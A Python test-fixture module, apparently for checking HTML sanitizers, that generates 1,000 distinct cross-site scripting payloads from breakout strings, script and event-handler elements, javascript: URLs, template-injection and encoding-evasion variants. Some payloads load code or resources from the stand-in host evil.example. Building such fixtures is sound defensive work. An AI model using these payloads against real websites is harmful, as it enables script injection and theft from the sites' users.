"""A thousand texts that try to be more than text: each runs `ran(its number)`, or asks evil.example for something.

Ways out of where a text may stand, times what can be put there; and what tries to be read as something else later.
"""

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

MANY = 1_000
#: Whom nothing may ask.
EVIL = "evil.example"

#: What ends the element, the attribute, the comment or the script that a text may stand in.
WAYS_OUT = (
    "", '">', "'>", '" ', "' ", "</dd></dl>", "</td></tr></table>", "</title></head><body>", "</style>", "</script>",
    "</textarea>", "</option></select>", "</noscript>", "-->", "--!>", "]]>", "\x00", "</svg></math>", "</p></main>",
    "<!--", "\\\">", "&quot;>",
)  # fmt: skip
#: JS stands for what runs, TO for an address.
ELEMENTS = (
    "<script>JS</script>", "<SCRIPT/x>JS</sCrIpT >", "<script src=TO></script>", "<script type=module>JS</script>",
    "<scr\x00ipt>JS</script>", "<<script>JS//<</script>", "<script>/*\u2028*/JS</script>", "<script x='>'>JS</script>",
    "<img src=x onerror=JS>", "<img/src='x'/onerror=JS>", '<img src="TO" onload="JS">', "<img srcset='TO 1x'>",
    "<image src=x onerror=JS>", "<svg onload=JS>", "<svg/onload=JS>", "<svg><script>JS</script></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg id=x onload=JS>#x'>",
    "<svg><image href=TO></svg>", "<svg><style><img src=x onerror=JS></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=JS>", "<body onload=JS>", "<body background=TO>",
    "<iframe src=javascript:JS></iframe>", "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<iframe src=TO></iframe>", "<object data=javascript:JS></object>", "<object data=TO></object>", "<embed src=TO>",
    "<video><source onerror=JS></video>", "<video poster=TO></video>", "<audio src=TO autoplay onerror=JS></audio>",
    "<details open ontoggle=JS>", "<input autofocus onfocus=JS>", "<select autofocus onfocus=JS></select>",
    "<textarea autofocus onfocus=JS></textarea>", "<a href=javascript:JS autofocus onfocus=JS>here</a>",
    "<x tabindex=1 autofocus onfocus=JS>", "<marquee onstart=JS>x</marquee>", "<base href=//TO/>",
    "<link rel=stylesheet href=TO>", "<link rel=prefetch href=TO>", "<style>@import 'TO';</style>",
    "<style>*{background:url(TO)}</style>", "<div style='background:url(TO)'>x</div>", "<form action=TO><button>",
)  # fmt: skip
#: What needs no way out, because it tries to become something in another reader: of attributes, templates, encodings.
OTHERS = (
    "javascript:JS", "JaVaScRiPt:JS", "java\tscript:JS", "\x01javascript:JS", "data:text/html,<script>JS</script>",
    "vbscript:JS", "x onmouseover=JS y=", '" autofocus onfocus="JS', "' autofocus onfocus='JS", "` onload=JS `",
    "{{ JS }}", "{{ ''.__class__.__mro__ }}", "{% raw %}<script>JS</script>", "{{ '<script>JS</script>'|safe }}",
    "{# #}<script>JS</script>", "${JS}", "#{JS}", "<%= JS %>", "[[JS]]", "@(JS)", "*{JS}", "`${JS}`",
    "&lt;script&gt;JS&lt;/script&gt;", "&#60;script&#62;JS&#60;/script&#62;", "&#x3c;img src=x onerror=JS&#x3e;",
    "%3Cscript%3EJS%3C/script%3E", "%253Cscript%253EJS", "\\x3cscript\\x3eJS", "\\u003cscript\\u003eJS",
    "+ADw-script+AD4-JS+ADw-/script+AD4-", "＜script＞JS＜/script＞", "‹script›JS‹/script›",
    "\u202e<script>JS</script>",
    "\ufeff<script>JS</script>", "\u2029<script>JS</script>", "\u00ad<script>JS</script>", "<\u200bscript>JS</script>",
    "expression(JS)", "}*{background:url(TO)}", "@import url(TO);", "/*</style>*/<script>JS</script>",
    "https://TO/<script>JS</script>", "http://TO/", "//TO/x.js", "mailto:x@TO?body=<script>JS</script>",
)  # fmt: skip


def payloads() -> list[str]:
    """The same thousand every time, no two alike."""
    made = list(_made())[:MANY]
    if len(set(made)) != MANY:
        raise LookupError(f"{len(set(made))} of {MANY}")
    return made


def _made() -> Iterator[str]:
    patterns = [*OTHERS, *(way + element for element, way in product(ELEMENTS, WAYS_OUT))]
    for number, pattern in enumerate(patterns):
        js = f"ran({number})"
        yield pattern.replace("JS", quote(js) if pattern.startswith("%") else js).replace("TO", f"//{EVIL}/{number}")
